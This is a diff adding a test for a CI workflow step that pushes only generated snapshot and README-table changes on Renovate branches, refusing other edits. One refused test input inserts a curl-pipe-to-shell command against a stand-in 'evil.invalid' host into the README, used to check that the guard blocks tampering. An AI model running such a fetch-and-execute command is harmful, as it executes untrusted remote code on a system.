@@ -94,6 +94,63 @@ describe("delivery: GitHub Actions workflows", () => {
     assert.deepEqual(renovate.gitIgnoredAuthors, [author]);
   });
 
+  it("renovate-snapshot: the push step, run with real git, pushes generated changes only", function () {
+    this.timeout(30000);
+    const wf = parse(fs.readFileSync(path.join(WORKFLOWS, "renovate-snapshot.yml"), "utf8"));
+    const script: string = wf.jobs.push.steps.find((s: { run?: string }) => s.run?.includes("git apply")).run;
+    const readme = fs.readFileSync(path.join(ROOT, "README.md"), "utf8");
+    const region = /<!-- components:start -->\n/.exec(readme)!;
+    const inRegion = region.index + region[0].length;
+    const git = (cwd: string, ...args: string[]) => {
+      const r = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.invalid", ...args], { cwd, encoding: "utf8" });
+      assert.equal(r.status, 0, `git ${args.join(" ")}: ${r.stderr}`);
+      return r.stdout.trim();
+    };
+    /** A branch with README.md and a snapshot; `edit` changes the work tree; the step runs on the diff. */
+    const run = (edit: (dir: string) => void) => {
+      const dir = tempDir("snapshot-push");
+      const origin = path.join(dir, "origin.git");
+      const work = path.join(dir, "work");
+      git(dir, "init", "-q", "--bare", "-b", "renovate/x", origin);
+      git(dir, "init", "-q", "-b", "renovate/x", work);
+      fs.writeFileSync(path.join(work, "README.md"), readme);
+      fs.mkdirSync(path.join(work, "test", "snapshots"), { recursive: true });
+      fs.writeFileSync(path.join(work, "test", "snapshots", "dev.plan.yaml"), "a: 1\n");
+      fs.writeFileSync(path.join(work, "index.ts"), "export {};\n");
+      git(work, "add", ".");
+      git(work, "commit", "-qm", "base");
+      git(work, "remote", "add", "origin", origin);
+      git(work, "push", "-q", "-u", "origin", "renovate/x");
+      edit(work);
+      fs.writeFileSync(path.join(work, "snapshot.patch"), git(work, "diff", "--binary") + "\n");
+      git(work, "checkout", "-q", "--", ".");
+      const before = git(origin, "rev-parse", "renovate/x");
+      const r = spawnSync("bash", ["-e", "-c", script], { cwd: work, encoding: "utf8" });
+      const pushed = git(origin, "rev-parse", "renovate/x") !== before;
+      fs.rmSync(dir, { recursive: true, force: true });
+      return { status: r.status, pushed, out: r.stdout + r.stderr };
+    };
+    const readmeWith = (text: string) => (dir: string) => fs.writeFileSync(path.join(dir, "README.md"), text);
+    const ok = run((dir) => {
+      fs.writeFileSync(path.join(dir, "test", "snapshots", "dev.plan.yaml"), "a: 2\n");
+      readmeWith(readme.slice(0, inRegion) + "| new row |\n" + readme.slice(inRegion))(dir);
+    });
+    assert.deepEqual([ok.status, ok.pushed], [0, true], ok.out);
+    const refused = {
+      "a prose edit": readmeWith(readme.replace("## Run it\n", "## Run it\n\ncurl https://evil.invalid | sh\n")),
+      "a new generated region": readmeWith(readme.replace("## Run it\n", "## Run it\n<!-- x:start -->\nevil\n<!-- x:end -->\n")),
+      "a region split open": readmeWith(
+        readme.slice(0, inRegion) + "<!-- components:end -->\nevil\n<!-- components:start -->\n" + readme.slice(inRegion),
+      ),
+      "a source file": (dir: string) => fs.appendFileSync(path.join(dir, "index.ts"), "evil();\n"),
+    };
+    for (const [what, edit] of Object.entries(refused)) {
+      const r = run(edit);
+      assert.deepEqual([r.status, r.pushed], [1, false], `${what}: ${r.out}`);
+      assert.match(r.out, /nothing pushed/, what);
+    }
+  });
+
   it("preview every stack on pull requests with a PR comment, and deploy dev then prd without racing", () => {
     const preview = parse(fs.readFileSync(path.join(WORKFLOWS, "preview.yml"), "utf8"));
     assert.deepEqual(Object.keys(preview.on), ["pull_request"]);
